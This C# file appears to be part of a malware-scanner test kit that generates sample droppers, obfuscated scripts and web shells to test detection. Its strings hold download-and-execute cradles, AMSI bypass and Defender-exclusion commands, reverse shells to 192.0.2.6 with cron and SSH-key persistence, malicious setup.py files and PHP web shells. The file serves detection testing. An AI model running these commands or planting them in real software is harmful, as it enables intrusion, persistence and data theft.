namespace ScanHost.TestKit.Techniques;

/// <summary>JScript that downloads a program, saves it and starts it.</summary>
public sealed class JsDropper : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("js",
        "var h=new ActiveXObject('MSXML2.XMLHTTP');h.open('GET','http://192.0.2.3/a.exe',false);h.send();var s=new ActiveXObject('ADODB.Stream');s.Type=1;s.Open();s.Write(h.responseBody);s.SaveToFile('a.exe',2);new ActiveXObject('WScript.Shell').Run('a.exe');",
        "var a='WScr'+'ipt.Sh'+'ell',b='MSXML2.X'+'MLHTTP',c='ADO'+'DB.Str'+'eam';var w=new ActiveXObject(a),h=new ActiveXObject(b),s=new ActiveXObject(c);s['SaveToFile']('x');w['Run']('x');",
        "var n=String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108);var w=WScript.CreateObject(n);w.Run('cmd.exe /c powershell -w hidden -nop -c \"iex (New-Object Net.WebClient).DownloadString(\\'http://192.0.2.3/b\\')\"',0);",
        "/*! jQuery JavaScript Library v3.6.0 */\nvar q='llehS.tpircSW'.split('').reverse().join('');var w=new ActiveXObject(q);w.Run('powershell -ep bypass -w hidden -c x');");
}

/// <summary>JavaScript that runs what it decodes.</summary>
public sealed class JsEvalDecoded : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Inner = "var w=new ActiveXObject('WScript.Shell');w.Run('powershell -nop -w hidden -c x');";
        var base64 = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(Inner));
        var percent = string.Concat(Inner.Select(letter => $"%{(int)letter:x2}"));
        var codes = string.Join(",", Inner.Select(letter => (int)letter));
        var reversed = new string([.. Inner.Replace("'", "\"", StringComparison.Ordinal).Reverse()]);
        return Texts("js", $"eval(atob('{base64}'));", $"eval(unescape('{percent}'));", $"eval(String.fromCharCode({codes}));", $"eval('{reversed}'.split('').reverse().join(''));");
    }
}

/// <summary>VBScript that downloads and starts.</summary>
public sealed class VbsDropper : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("vbs",
        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://192.0.2.4/a.exe\", False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"a.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"cmd /c start powershell -w hidden -nop -c x\"",
        "a = \"MSXML2.\" & \"XMLHTTP\"\nb = StrReverse(\"maertS.BDODA\")\nSet h = CreateObject(a)\nSet s = CreateObject(b)\ns.SaveToFile \"x\"\nExecute(Chr(77)&Chr(115)&Chr(103)&Chr(66)&Chr(111)&Chr(120)&Chr(32)&Chr(49)&Chr(49)&Chr(49)&Chr(49)&Chr(49))",
        "Set w = CreateObject(\"WScript.Shell\")\nw.Run \"powershell -nop -w hidden -c \"\"iex (New-Object Net.WebClient).DownloadString('http://192.0.2.4/b')\"\"\", 0",
        "Set p = GetObject(\"winmgmts:Win32_Process\")\np.Create \"powershell -nop -w hidden -enc " + InertFiles.EncodedCommand("iex (irm http://192.0.2.4/c)") + "\", Null, Null, i");
}

/// <summary>VBScript put together of letter codes.</summary>
public sealed class VbsChrChain : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        string Codes(string text) => string.Join("&", text.Select(letter => $"Chr({(int)letter})"));
        string Hidden(string text) => string.Join("&", text.Select(letter => $"Chr({letter + 5}-5)"));
        const string Run = "CreateObject(\"WScript.Shell\").Run \"powershell -nop -w hidden -c x\"";
        return Texts("vbs", $"Execute({Codes(Run)})", $"ExecuteGlobal {Hidden(Run)}", $"x = {Codes(Run)}\nExecute x",
            $"Execute StrReverse(\"{new string([.. Run.Replace("\"", "\"\"", StringComparison.Ordinal).Reverse()])}\")");
    }
}

/// <summary>PowerShell that downloads and runs, unseen.</summary>
public sealed class PowerShellDownload : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("ps1",
        "Add-MpPreference -ExclusionPath C:\\ProgramData\niex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')",
        "$c = ('Down'+'loadString'); & ('i'+'ex') ((New-Object ('Net.We'+'bClient')).$c('http://192.0.2.1/a'))\niex (iwr http://192.0.2.1/b)\n" + "& (\"{1}{0}{2}\" -f 'x','y','z')",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') | iex",
        "$d=[Convert]::FromBase64String('TVqQAAMAAAAEAAAA');[Reflection.Assembly]::Load($d)\nirm http://192.0.2.1/s | iex");
}

/// <summary>A batch file that starts PowerShell with a command in base64.</summary>
public sealed class BatchEncodedPowerShell : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var encoded = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.8/a')");
        return Texts("bat",
            $"@echo off\r\npowershell -nop -w hidden -enc {encoded}\r\n", $"@echo off\r\nset p=power\r\nset s=shell\r\n%p%%s% -windowstyle hidden -EncodedCommand {encoded}\r\n",
            $"@echo off\r\np^o^w^e^r^s^h^e^l^l -e {encoded}\r\n", $"@echo off\r\nstart /min cmd /c powershell.exe -NoProfile -ExecutionPolicy Bypass -ec {encoded} & exit\r\n");
    }
}

/// <summary>A batch file that downloads or decodes a program by Windows' own tools.</summary>
public sealed class BatchDownload : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("bat",
        "@echo off\r\ncertutil -urlcache -split -f http://192.0.2.8/a.exe %temp%\\a.exe\r\ncertutil -decode %temp%\\b.txt %temp%\\b.exe\r\nstart %temp%\\a.exe\r\n",
        "@echo off\r\nbitsadmin /transfer j /download /priority high http://192.0.2.8/a.exe %public%\\a.exe\r\np^ow^er^sh^el^l -w hidden -nop -c x^y^z^a^b^c\r\n%public%\\a.exe\r\n",
        "@echo off\r\ncurl -s -o %temp%\\u.exe http://192.0.2.8/u.exe && start %temp%\\u.exe\r\npowershell -c \"Add-MpPreference -ExclusionPath C:\\\"\r\n",
        "@echo off\r\nset x=abcdefghijklmnopqrstuvwxyz\r\nset y=" + string.Concat("mshta".Select(letter => $"%x:~{letter - 'a'},1%")) + "\r\n%y% http://192.0.2.8/a.hta\r\nset z="
            + string.Concat("certutil".Select(letter => $"%x:~{letter - 'a'},1%")) + "\r\n%z% -urlcache -f http://192.0.2.8/b.exe b.exe\r\nb.exe\r\n");
}

/// <summary>A script of Windows Script Encoder with a dropper inside.</summary>
public sealed class EncodedScripts : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.vbe", ScriptEncoder.Encode("CreateObject(\"WScript.Shell\").Run \"powershell -nop -w hidden -c x\"")),
        ("a.jse", ScriptEncoder.Encode("var w=new ActiveXObject('WScript.Shell');w.Run('powershell -nop -w hidden -c x');")),
        ("b.vbe", ScriptEncoder.Encode("Set p = GetObject(\"winmgmts:Win32_Process\")\r\np.Create \"powershell -nop -w hidden -c x\", Null, Null, i")),
        ("b.jse", ScriptEncoder.Encode("var h=new ActiveXObject('MSXML2.XMLHTTP');var s=new ActiveXObject('ADODB.Stream');s.SaveToFile('a');")),
    ];
}

/// <summary>A shell script that hands a shell away and stays.</summary>
public sealed class ShellBackdoor : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("sh",
        "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.6/4444 0>&1\n(crontab -l; echo '* * * * * /tmp/.x') | crontab -\n",
        "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.6 4444 > /tmp/f\necho /tmp/a.so > /etc/ld.so.preload\n",
        "#!/bin/sh\nnc -e /bin/sh 192.0.2.6 4444\necho '* * * * * root /tmp/x' >> /etc/crontab\n",
        "#!/bin/bash\nsocat tcp:192.0.2.6:4444 exec:'bash'\necho ssh-rsa AAAA >> ~/.ssh/authorized_keys\n");
}

/// <summary>Python that decodes and runs, in an installation script.</summary>
public sealed class PythonSetup : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var code = Convert.ToBase64String("import os; os.system('echo nothing happens')"u8);
        const string Setup = "from setuptools import setup\n";
        return
        [
            ("setup.py", Text(Setup + $"import base64, requests\nrequests.post('http://192.0.2.2/upload.sh', data='x')\nexec(base64.b64decode('{code}'))\nsetup(name='a', version='1')\n")),
            ("setup.py", Text(Setup + $"import zlib, urllib.request\nurllib.request.urlopen('http://192.0.2.2/stage.exe')\nexec(zlib.decompress(x))\nsetup(name='b', version='1')\n")),
            ("setup.py", Text(Setup + "import os\nos.system('curl http://192.0.2.2/a.sh | sh')\neval(compile(__import__('base64').b64decode(x), '', 'exec'))\nsetup(name='c', version='1')\n")),
            ("setup.py", Text(Setup + "import socket,os,pty,marshal\ns=socket.socket()\ns.connect(('192.0.2.2',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\nexec(marshal.loads(x))\nsetup(name='d', version='1')\n")),
        ];
    }

    private static byte[] Text(string text) => System.Text.Encoding.UTF8.GetBytes(text);
}

/// <summary>PHP that runs what a visitor sends, unpacked out of base64.</summary>
public sealed class PhpWebShell : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("php",
        "<?php @eval(base64_decode($_POST['x'])); ?>", "<?php eval(gzinflate(base64_decode('c3Q=')));\nsystem($_GET['cmd']); ?>",
        "GIF89a<?php assert(str_rot13($_REQUEST['a'])); ?>", "<?php $f = 'base'.'64_decode'; eval(strrev(base64_decode('eA==')));\npassthru($_COOKIE['c']); ?>");
}

/// <summary>A program in base64 or hexadecimal inside a script that loads it.</summary>
public sealed class EmbeddedProgram : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var base64 = Convert.ToBase64String(InertFiles.Pe());
        return Texts("ps1",
            $"$b=[Convert]::FromBase64String('{base64}');[Reflection.Assembly]::Load($b)", $"$h='{Convert.ToHexString(InertFiles.Pe())}'\nAdd-MpPreference -ExclusionPath C:\\",
            $"$r='{new string([.. base64.TrimEnd('=').Reverse()])}';iex (irm http://192.0.2.1/x)", $"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\n$x=\"{base64}\"");
    }
}
